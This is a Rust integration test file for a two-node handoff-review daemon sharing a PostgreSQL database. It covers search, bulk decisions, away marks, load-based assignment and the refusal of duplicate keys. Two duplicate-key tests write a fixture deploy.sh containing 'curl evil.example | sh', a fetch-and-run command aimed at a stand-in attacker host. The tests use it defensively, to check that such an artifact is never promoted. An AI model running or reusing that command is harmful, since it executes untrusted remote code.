//! What a cluster shares beyond records and leases: the search index of every node holds the
//! handoff and decision records of the workspaces it serves (rows in the database), bulk
//! decisions reach every handoff whichever node serves it, and reviewers' away marks hold on
//! every node.

use super::nodes::{node_config, served};
use super::pg::Postgres;
use crate::util::*;
use serde_json::json;

/// Two nodes over one PostgreSQL and 7 workspaces (alpha, w0..w5), shared out.
pub(super) fn two_nodes(db: &str, extra: &str) -> (Postgres, TestEnv, Daemon, Daemon) {
    two_nodes_over(db, extra, 6)
}

/// Two nodes over one PostgreSQL and `count` + 1 workspaces (alpha, w0..), shared out; more
/// (w`count`, ...) until each node is preferred by at least 3 (a workspace's tag holds the
/// digest of its random path, so a small set can fall all on one node).
fn two_nodes_over(db: &str, extra: &str, count: usize) -> (Postgres, TestEnv, Daemon, Daemon) {
    let pg = Postgres::start();
    let url = pg.database(db);
    let mut env = TestEnv::new();
    env.drive_clock();
    let mut names = vec!["alpha".to_string()];
    super::nodes::spread(&env, &mut names, count + 1, &["a", "b"], 3);
    let a = env.spawn_with_config(&node_config(&env, &url, "a", extra));
    let b = env.spawn_with_config(&node_config(&env, &url, "b", extra));
    let total = names.len();
    super::nodes::settled(&env, &pg, db, &["a", "b"], total);
    super::nodes::wait_long("shared out", super::nodes::SETTLE_S, || {
        served(&a) + served(&b) == total
    });
    let tags: Vec<String> = names
        .iter()
        .map(|n| format!("'{}'", super::nodes::tag_of(&env, n)))
        .collect();
    let sql = format!(
        "SELECT count(*) FROM workspaces WHERE tag IN ({})",
        tags.join(", ")
    );
    let known = String::from_utf8_lossy(&pg.psql(db, &sql).stdout)
        .trim()
        .to_string();
    assert_eq!(
        known,
        total.to_string(),
        "the tags computed here are the nodes' own"
    );
    (pg, env, a, b)
}

/// The workspaces whose lease `node` holds, by name.
fn held_by(pg: &Postgres, db: &str, node: &str) -> Vec<String> {
    let out = pg.psql(
        db,
        &format!("SELECT w.name FROM leases l JOIN workspaces w ON w.tag = l.tag WHERE l.node = '{node}' ORDER BY w.name"),
    );
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

/// The hits of `q` on `d`, as (kind, workspace, key).
fn hits(d: &Daemon, q: &str) -> Vec<(String, String, String)> {
    let (status, body) = d.get(&format!("/api/v1/search?q={q}"));
    if status != 200 {
        return Vec::new();
    }
    body["hits"]
        .as_array()
        .map(|hits| {
            hits.iter()
                .map(|h| {
                    let text = |f: &str| h[f].as_str().unwrap_or_default().to_string();
                    (text("kind"), text("workspace"), text("key"))
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_search_on_any_node_finds_the_handoffs_and_decisions_another_node_serves() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("records", "");
    let name = held_by(&pg, "records", "b")[0].clone();
    let ws = env.ws(&name);
    let mut doc = handoff("far-record");
    doc["summary"] = json!("the obsidian cutover of the billing ledger");
    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
    b.wait_until("received by b", || {
        b.get("/api/v1/handoffs/far-record").0 == 200
    });
    // Decided on a: forwarded to b, which records it (a row) and indexes it.
    let (status, body) = super::decide_retrying(
        &a,
        "far-record",
        "rejected",
        "vermilion rollback plan missing",
    );
    assert_eq!(status, 200, "{body}");

    let want_handoff = (
        "handoff".to_string(),
        name.clone(),
        "far-record".to_string(),
    );
    let want_decision = (
        "decision".to_string(),
        name.clone(),
        "far-record".to_string(),
    );
    super::nodes::wait_long(
        "a finds b's handoff by its summary",
        super::nodes::SETTLE_S,
        || hits(&a, "obsidian").contains(&want_handoff),
    );
    super::nodes::wait_long(
        "a finds b's decision by its comment",
        super::nodes::SETTLE_S,
        || hits(&a, "vermilion").contains(&want_decision),
    );
    // Indexed once, by the node that serves the workspace.
    let found = hits(&a, "obsidian");
    assert_eq!(
        found.iter().filter(|h| **h == want_handoff).count(),
        1,
        "{found:?}"
    );
    let (status, body) = b.get("/api/v1/search?q=vermilion%20kind:decision");
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["hits"][0]["key"], "far-record", "{body}");
}

#[test]
fn a_bulk_decision_sent_to_one_node_decides_every_handoff_whichever_node_serves_it() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("bulk", &user("alice", "\"reviewer\""));
    let names: Vec<String> = std::iter::once("alpha".to_string())
        .chain((0..6).map(|i| format!("w{i}")))
        .collect();
    for name in &names {
        write_atomic(
            &env.ws(name).join("handoff.json"),
            &bytes(&handoff(&format!("bulk-{name}"))),
        );
    }
    a.wait_until("every handoff pending on both nodes", || {
        a.handoffs("pending").len() == names.len() && b.handoffs("pending").len() == names.len()
    });
    assert!(!held_by(&pg, "bulk", "b").is_empty() && !held_by(&pg, "bulk", "a").is_empty());

    // Asked in an order of its own, with one key nobody knows, on node a.
    let mut keys: Vec<String> = names.iter().rev().map(|n| format!("bulk-{n}")).collect();
    keys.insert(2, "nobody-knows".into());
    // An approval names the revision read of each (every one is at its first).
    let items: Vec<serde_json::Value> = keys
        .iter()
        .map(|k| json!({"key": k, "revision": 1}))
        .collect();
    let body = json!({"items": items, "outcome": "approved", "comment": "batch ok"});
    let (status, answer) = a.post_as("/api/v1/decisions", Some("alice-token"), &body.to_string());
    assert_eq!(status, 200, "{answer}");
    let results = answer["results"].as_array().unwrap();
    let answered: Vec<&str> = results.iter().map(|r| r["key"].as_str().unwrap()).collect();
    assert_eq!(answered, keys, "one result per key, in the order asked");
    for r in results {
        let want = if r["key"] == "nobody-knows" { 404 } else { 200 };
        assert_eq!(r["status"], want, "{r}");
    }
    for name in &names {
        let written = decision(&env.ws(name)).unwrap_or_default();
        assert_eq!(written["outcome"], "approved", "{name}: {written}");
        assert_eq!(written["by"], "alice", "{name}: {written}");
    }
    assert!(b.handoffs("pending").is_empty() && a.handoffs("pending").is_empty());
}

/// alice, bob and carol review; one route assigns every new handoff in turn.
fn team() -> String {
    [
        user("alice", "\"reviewer\""),
        user("bob", "\"reviewer\""),
        user("carol", "\"reviewer\""),
        "[[routes]]\nname = \"team\"\nassign = \"round_robin\"\n".to_string(),
    ]
    .concat()
}

/// Writes handoff `key` into `ws` and waits until `d` says who it was assigned to.
fn assigned(env: &TestEnv, d: &Daemon, ws: &str, key: &str) -> String {
    write_atomic(&env.ws(ws).join("handoff.json"), &bytes(&handoff(key)));
    let mut by = String::new();
    d.wait_until("assigned", || {
        let (_, body) = d.get(&format!("/api/v1/handoffs/{key}"));
        by = body["claimed_by"].as_str().unwrap_or_default().to_string();
        !by.is_empty()
    });
    by
}

#[test]
fn an_away_mark_set_on_one_node_stops_every_node_assigning_to_that_reviewer() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("away", &team());
    let (on_a, on_b) = (held_by(&pg, "away", "a"), held_by(&pg, "away", "b"));
    assert!(on_a.len() >= 2 && on_b.len() >= 2, "{on_a:?} {on_b:?}");

    // alice says on a that she is away; b reads it.
    let (status, body) = a.post_as("/api/v1/me/away", Some("alice-token"), r#"{"away":true}"#);
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        b.get_as("/api/v1/me/away", Some("alice-token")).1["away"],
        true
    );

    // b's first assignment would be alice's (the round starts with her): it passes her over.
    assert_eq!(assigned(&env, &b, &on_b[0], "first"), "bob");
    // The round is one for the cluster: a goes on after b's last.
    assert_eq!(assigned(&env, &a, &on_a[0], "second"), "carol");
    assert_eq!(assigned(&env, &b, &on_b[1], "third"), "bob");

    // Back on b: a assigns to her again.
    let (status, body) = b.post_as("/api/v1/me/away", Some("alice-token"), r#"{"away":false}"#);
    assert_eq!(status, 200, "{body}");
    assert_eq!(assigned(&env, &a, &on_a[1], "fourth"), "carol");
    let used = [&on_b[0], &on_a[0], &on_b[1], &on_a[1]];
    let next = on_a
        .iter()
        .chain(&on_b)
        .find(|n| !used.contains(n))
        .unwrap()
        .clone();
    let d = if on_a.contains(&next) { &a } else { &b };
    assert_eq!(assigned(&env, d, &next, "fifth"), "alice");
    let reviewers = a.get("/api/v1/reviewers").1;
    assert_eq!(reviewers[0]["away"], false, "{reviewers}");
}

#[test]
fn least_loaded_weighs_the_claims_held_in_the_workspaces_other_nodes_serve() {
    let _serial = super::nodes::one_at_a_time();
    let team = [
        user("alice", "\"reviewer\""),
        user("bob", "\"reviewer\""),
        user("carol", "\"reviewer\""),
        user("root", "\"admin\""),
        // Critical actions are everyone's; the rest is given to the least loaded.
        "[[routes]]\nname = \"manual\"\ntriggers = [\"critical_action\"]\n".to_string(),
        "[[routes]]\nname = \"team\"\nassign = \"least_loaded\"\n".to_string(),
    ]
    .concat();
    let (pg, env, a, b) = two_nodes("load", &team);
    let (on_a, on_b) = (held_by(&pg, "load", "a"), held_by(&pg, "load", "b"));
    assert!(on_a.len() >= 2 && on_b.len() >= 2, "{on_a:?} {on_b:?}");

    // alice claims two handoffs that only b serves.
    for (i, ws) in on_b[..2].iter().enumerate() {
        let key = format!("m{i}");
        let mut doc = handoff(&key);
        doc["trigger"] = json!("critical_action");
        write_atomic(&env.ws(ws).join("handoff.json"), &bytes(&doc));
        b.wait_until("received by b", || {
            b.get(&format!("/api/v1/handoffs/{key}")).0 == 200
        });
        let claim = format!("/api/v1/handoffs/{key}/claim");
        let (status, body) = b.post_as(&claim, Some("alice-token"), "");
        assert_eq!(status, 200, "{body}");
    }
    // a counts them: alice holds 2, bob and carol nothing, so a's first assignment passes
    // alice over (counting a's own workspaces only, it would be hers: the round's first).
    assert_eq!(assigned(&env, &a, &on_a[0], "n1"), "bob");
    let load = |d: &Daemon, name: &str| {
        let (status, body) = d.get_as("/api/v1/reviewers", Some("root-token"));
        assert_eq!(status, 200, "{body}");
        let line = body
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["name"] == name)
            .cloned();
        line.unwrap_or_default()["claims"].as_u64().unwrap()
    };
    assert_eq!(load(&a, "alice"), 2, "a's reviewers page counts b's claims");
    assert_eq!(load(&b, "bob"), 1, "and b counts a's assignment");

    // A decided handoff's claim no longer counts, on either node.
    let (status, body) = super::decide_retrying(&a, "m0", "approved", "fine");
    assert_eq!(status, 200, "{body}");
    assert_eq!(load(&a, "alice"), 1);
    assert_eq!(load(&b, "alice"), 1);
}

/// Who holds `key`, as node `d` answers.
fn holder_of(d: &Daemon, key: &str) -> String {
    let (_, body) = d.get(&format!("/api/v1/handoffs/{key}"));
    body["claimed_by"].as_str().unwrap_or_default().to_string()
}

#[test]
fn an_away_mark_moves_on_at_once_what_other_nodes_assigned_and_a_lost_wake_up_is_caught_up() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("moved", &team());
    let on_b = held_by(&pg, "moved", "b");
    assert!(on_b.len() >= 2, "{on_b:?}");

    // b assigns a handoff of its own to alice (the round's first).
    assert_eq!(assigned(&env, &b, &on_b[0], "x1"), "alice");
    // The visit its claim made due (the housekeeping's, once a second) is done by then, so
    // only a wake-up (or a lease round) can move it on.
    std::thread::sleep(std::time::Duration::from_secs(3));
    // alice says on a that she is away: b, woken, moves it on at once (the route sets no
    // assign_timeout_s, and nothing else happens in that workspace).
    let (status, body) = a.post_as("/api/v1/me/away", Some("alice-token"), r#"{"away":true}"#);
    assert_eq!(status, 200, "{body}");
    super::nodes::wait_long("b moved x1 on from alice", super::nodes::SETTLE_S, || {
        holder_of(&b, "x1") == "bob"
    });

    // A mark whose wake-up never came (written straight into the database, no NOTIFY): b
    // finds it at its next lease round.
    assert_eq!(assigned(&env, &b, &on_b[1], "x2"), "bob");
    // As above: the visits the last claims made due are done, so only the lease round can
    // find this mark.
    std::thread::sleep(std::time::Duration::from_secs(3));
    let out = pg.psql(
        "moved",
        "INSERT INTO away (name, since) VALUES ('bob', '2026-01-01T00:00:00.000Z')",
    );
    assert!(out.status.success(), "{out:?}");
    super::nodes::lease_round(&env, &pg, "moved", &["a", "b"]);
    super::nodes::wait_long(
        "b moved bob's assignments on at its lease round",
        super::nodes::SETTLE_S,
        || holder_of(&b, "x1") == "carol" && holder_of(&b, "x2") == "carol",
    );
    // Each move is one claim event in the workspace, by the route, saying why.
    let why: Vec<String> = events(&env.ws(&on_b[0]))
        .into_iter()
        .filter(|e| e["type"] == "handoff.claimed" && e["key"] == "x1")
        .map(|e| e["data"]["why"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(why, ["", "alice is away", "bob is away"], "{why:?}");
}

/// A handoff id is one handoff across the cluster, as across one daemon's workspaces: a
/// decision names a key, not a workspace, so two workspaces on two nodes holding one key would
/// let an approval of what a reviewer read on one node decide the other's. The second
/// workspace to write an id another node already holds is answered `invalid`, naming the
/// first; and should both take it at once (two nodes each before the other committed), no
/// decision is taken on either (409), withdrawn or not.
#[test]
fn an_id_another_node_holds_is_refused_and_a_key_held_twice_is_decided_nowhere() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("dupkey", &user("rita", "\"reviewer\""));
    let on_a = held_by(&pg, "dupkey", "a")[0].clone();
    let on_b = held_by(&pg, "dupkey", "b")[0].clone();
    let mut doc = handoff("dup-1");
    doc["artifacts"] = json!([{ "path": "deploy.sh" }]);
    std::fs::write(env.ws(&on_a).join("deploy.sh"), "echo benign\n").unwrap();
    std::fs::write(env.ws(&on_b).join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    write_atomic(&env.ws(&on_a).join("handoff.json"), &bytes(&doc));
    a.wait_until("a has dup-1", || {
        a.get_as("/api/v1/handoffs/dup-1", Some("rita-token")).0 == 200
    });
    write_atomic(&env.ws(&on_b).join("handoff.json"), &bytes(&doc));
    b.wait_until("b answers its dup-1", || decision(&env.ws(&on_b)).is_some());
    let answer = decision(&env.ws(&on_b)).unwrap();
    assert_eq!(answer["outcome"], "invalid", "{answer}");
    assert!(
        answer
            .to_string()
            .contains(&format!("already used in workspace \\\"{on_a}\\\"")),
        "{answer}"
    );
    // Read on a, approved through b: it is a's, the one read.
    let (_, read) = a.get_as("/api/v1/handoffs/dup-1", Some("rita-token"));
    assert_eq!(read["workspace"], on_a.as_str(), "{read}");
    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
    let (status, answer) = b.post_as(
        "/api/v1/handoffs/dup-1/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    assert_eq!(status, 200, "{answer}");
    assert_eq!(decision(&env.ws(&on_a)).unwrap()["outcome"], "approved");
    assert!(!env.ws(&on_b).join("approved/deploy.sh").exists());

    // Both took dup-2 at once: b's record of it is written straight into the table, as b's
    // own commit would have been before a's receipt asked.
    write_atomic(
        &env.ws(&on_a).join("handoff.json"),
        &bytes(&handoff("dup-2")),
    );
    a.wait_until("a has dup-2", || {
        a.get_as("/api/v1/handoffs/dup-2", Some("rita-token")).0 == 200
    });
    let b_tag = super::nodes::tag_of(&env, &on_b);
    let dir = baton::workspace::key_dir_name("dup-2");
    let put = pg.psql(
        "dupkey",
        &format!(
            "INSERT INTO records (tag, dir, name, bytes, epoch) SELECT '{b_tag}', '{dir}', 'meta.json', '\\x7b7d'::bytea, epoch FROM leases WHERE tag = '{b_tag}'"
        ),
    );
    assert!(put.status.success(), "{put:?}");
    let (_, read) = a.get_as("/api/v1/handoffs/dup-2", Some("rita-token"));
    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
    let (status, answer) = a.post_as(
        "/api/v1/handoffs/dup-2/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    assert_eq!(status, 409, "{answer}");
    let why = answer["error"].as_str().unwrap_or_default();
    assert!(
        why.contains(&format!("also in workspace {on_b}")),
        "{answer}"
    );
    assert!(decision(&env.ws(&on_a)).is_none_or(|d| d["handoff_key"] != "dup-2"));
    a.assert_alive();
    b.assert_alive();
}

/// A node stalled past its lease still holds its keys: while a's lease has run out, the same
/// id written in a workspace b serves is answered `invalid`, and rita's approval of what she
/// read on a, sent to b, decides nothing of b's (review D: 200 and b's other deploy.sh
/// promoted, with keys looked for under live leases only).
#[test]
fn a_key_of_a_node_stalled_past_its_lease_is_not_taken_by_another_workspace() {
    let _serial = super::nodes::one_at_a_time();
    let (pg, env, a, b) = two_nodes("keygap", &user("rita", "\"reviewer\""));
    let on_a = held_by(&pg, "keygap", "a")[0].clone();
    let on_b = held_by(&pg, "keygap", "b")[0].clone();
    let mut doc = handoff("dup-9");
    doc["artifacts"] = json!([{ "path": "deploy.sh" }]);
    std::fs::write(env.ws(&on_a).join("deploy.sh"), "echo benign\n").unwrap();
    std::fs::write(env.ws(&on_b).join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    write_atomic(&env.ws(&on_a).join("handoff.json"), &bytes(&doc));
    a.wait_until("a has dup-9", || {
        a.get_as("/api/v1/handoffs/dup-9", Some("rita-token")).0 == 200
    });
    let (_, read) = a.get_as("/api/v1/handoffs/dup-9", Some("rita-token"));
    assert_eq!(read["workspace"], on_a.as_str(), "{read}");
    // a stalls; its lease runs out (as the fencing tests make it).
    unsafe { libc::kill(a.pid() as libc::pid_t, libc::SIGSTOP) };
    let a_tag = super::nodes::tag_of(&env, &on_a);
    let out = pg.psql(
        "keygap",
        &format!("UPDATE leases SET expires_at = now() - interval '1 hour' WHERE tag = '{a_tag}'"),
    );
    assert!(out.status.success(), "{out:?}");
    write_atomic(&env.ws(&on_b).join("handoff.json"), &bytes(&doc));
    b.wait_until("b answers its dup-9", || decision(&env.ws(&on_b)).is_some());
    let answer = decision(&env.ws(&on_b)).unwrap();
    assert_eq!(answer["outcome"], "invalid", "{answer}");
    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
    let (status, answer) = b.post_as(
        "/api/v1/handoffs/dup-9/decision",
        Some("rita-token"),
        &body.to_string(),
    );
    unsafe { libc::kill(a.pid() as libc::pid_t, libc::SIGCONT) };
    assert_ne!(
        status, 200,
        "b approved its own dup-9 on rita's read of a's: {answer}"
    );
    assert!(!env.ws(&on_b).join("approved/deploy.sh").exists());
}
